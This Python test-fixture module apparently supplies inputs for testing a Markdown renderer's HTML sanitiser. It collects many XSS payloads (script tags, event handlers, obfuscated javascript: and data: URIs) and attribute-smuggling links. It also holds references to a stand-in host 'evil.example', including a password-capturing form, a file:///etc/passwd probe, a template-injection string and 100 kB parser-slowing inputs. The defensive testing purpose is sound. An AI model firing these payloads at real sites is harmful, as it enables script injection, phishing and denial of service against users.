"""Texts that try to get a script, a frame or a stranger's file into a page; all written for this.

`VECTORS` holds hand-written ones and what comes of combining ways to smuggle with what is smuggled;
`PATHOLOGICAL` holds texts of 100 kB that make a careless parser slow.
"""

from itertools import product

KB_100 = 100_000

# `hit` is set by whatever runs; see test_markdown.py.
RUN = "window.hit=1"

# Elements written as they are, in as many kinds of place as Markdown has.
ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" alt="',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<object data='data:text/html,hej'></object>",
    "<embed src='//evil.example/x.swf'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>hej</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<form action='javascript:{RUN}'><button>hej</button></form>",
    "<form action=//evil.example><input name=losenord></form>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>hej</marquee>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><script>{RUN}</script>",
    f"<xmp></xmp><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php ?><script>{RUN}</script>",
    f"<a href='javascript:{RUN}'>hej</a>",
    f"<div style='width:expression({RUN})'>hej</div>",
    f"<p onclick={RUN} tabindex=1 autofocus onfocus={RUN}>hej</p>",
]
PLACES = ["{}", "**{}**", "> {}", "- {}", "# {}", "|a|\n|-|\n|{}|", "`{}`", "[{}](/x)"]

# Addresses that a browser might run, spelt in ways that a filter might not know.
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#x3A;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;&#x61;vascript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"java&#9;script:{RUN}",
    f"java&#10;script:{RUN}",
    f"java&#0;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&nbsp;javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"java\\script:{RUN}",
    f"javascript\\:{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript%3A{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:javascript:{RUN}!/",
    "data:text/html,%3Cscript%3Eparent.hit=1%3C/script%3E",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=",
    "data:image/svg+xml,%3Csvg%20onload=window.hit=1%3E",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "filesystem:https://evil.example/x",
    "ftp://evil.example/x",
    "ws://evil.example/x",
    "intent://evil.example#Intent;end",
    f'/x"onmouseover="{RUN}',
    f"/x'onmouseover='{RUN}",
    f"/x%22onmouseover=%22{RUN}",
    f"/x&quot;onmouseover=&quot;{RUN}",
    f"https://a.example/&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
]
LINKS = [
    "[hej]({})",
    "[hej](<{}>)",
    '[hej]({} "titel")',
    "<{}>",
    "[hej][a]\n\n[a]: {}",
    "[a]\n\n[a]: <{}> 'titel'",
    "![hej]({})",
    "[![hej](/x)]({})",
    "|[hej]({})|\n|-|",
]

# What fits none of these.
BY_HAND = [
    f'[hej](/x "t\\" onmouseover=\\"{RUN}")',
    f'[hej](/x "&quot; onmouseover=&quot;{RUN}")',
    f'![a" onerror="{RUN}](/media/bilder/00000000000000000000000000000000-480.webp)',
    f'![a](/media/bilder/00000000000000000000000000000000-480.webp"onerror="{RUN})',
    "![a](/media/bilder/../../admin/logout)",
    "![a](/media/bilder/%2e%2e/%2e%2e/admin/)",
    "![a](//evil.example/media/bilder/00000000000000000000000000000000-480.webp)",
    "![a](https://evil.example/media/bilder/00000000000000000000000000000000-480.webp)",
    "![a](/\\evil.example/x.webp)",
    "![a](/media/bilder/00000000000000000000000000000000-480.webp?x=1)",
    "![a](/media/bilder/00000000000000000000000000000000-480.svg)",
    "![a][b]\n\n[b]: https://evil.example/spion.gif",
    "![![![a](//evil.example/1)](//evil.example/2)](//evil.example/3)",
    f'```"><script>{RUN}</script>\nhej\n```',
    f"```x onmouseover={RUN}\nhej\n```",
    f"~~~<img src=x onerror={RUN}>\n~~~",
    f"    <script>{RUN}</script>",
    f"`` `<script>{RUN}</script>` ``",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<script>{RUN}\\</script>",
    f"<script>{RUN}",
    f"<script\n\n>{RUN}</script>",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<a\u2028href=javascript:{RUN}>hej</a>",
    f"<<script>{RUN}//<</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</p></div></main><script>{RUN}</script>",
    f"</figure></span><img src=x onerror={RUN}>",
    '<div class="table-scroll" role="group">hej</div>',
    '<span class="hidden-visually">hej</span>',
    "{{ settings.SECRET_KEY }} {% include 'x' %}",
    '<https://a.example/"onmouseover="window.hit=1>',
    f"[hej](javascript:{RUN}//https://a.example)",
    f"[hej](https:javascript:{RUN})",
    f"[hej](?javascript:{RUN})",
    f"1. <script>{RUN}</script>\n2. [x](javascript:{RUN})",
    f"a|b\n-|-\n<script>{RUN}</script>|[x](javascript:{RUN})",
    f'[x]: /y "\n<script>{RUN}</script>"\n\n[x]',
    f"Setext <img src=x onerror={RUN}>\n=====",
    "[hej](/x){onclick=window.hit=1}",
    "[hej](/x){: onclick=window.hit=1 }",
    "<a@evil.example>",
    "mailto:a@example.org?<script>",
    f"[hej](mailto:a@example.org?body=<script>{RUN}</script>)",
    f"[hej](tel:112;{RUN})",
]

VECTORS: list[str] = [
    *(place.format(element) for element, place in product(ELEMENTS, PLACES)),
    *(link.format(address) for address, link in product(ADDRESSES, LINKS)),
    *BY_HAND,
]


def _long(piece: str) -> str:
    return (piece * (KB_100 // len(piece) + 1))[:KB_100]


PATHOLOGICAL: dict[str, str] = {
    name: _long(piece)
    for name, piece in {
        "open brackets": "[",
        "open pictures": "![",
        "link openers": "[a](",
        "references": "[a][",
        "definitions": "[a]: b\n",
        "stars": "*",
        "unclosed bold": "**a ",
        "mixed emphasis": "*a **b _c ",
        "backticks": "`",
        "growing code": "``a` ",
        "less-than signs": "<",
        "autolinks": "<http://",
        "quotes": "> ",
        "list marks": "- ",
        "list items": "a\n- ",
        "ordered lists": "1. ",
        "headings": "# a\n",
        "tables": "|a|\n|-|\n",
        "wide table": "|a",
        "backslashes": "\\",
        "entities": "&amp;",
        "ampersands": "&",
        "line breaks": "a\\\n",
        "blank lines": "\n",
        "tabs": "\t",
        "parentheses": "[a](((((",
        "links": "[a](https://b.example) ",
        "pictures": "![a](/media/bilder/00000000000000000000000000000000-480.webp) ",
        "nested pictures": "![![",
        "picture paragraphs": "![a](/media/bilder/00000000000000000000000000000000-480.webp)\n\n",
        "one word": "å",
        "null bytes": "\0",
        "tildes": "~~~\n",
        "comments": "<!--",
        "one long line": "ord ",
    }.items()
} | {
    "deep quotes": "> " * 2000 + "a" * (KB_100 - 4000),
    "deep list": "".join(f"{'  ' * depth}- a\n" for depth in range(310))[:KB_100],
    "one wide table": "|"
    + "a|" * 1000
    + "\n|"
    + "-|" * 1000
    + "\n"
    + ("|" + "b|" * 1000 + "\n") * 46,
}
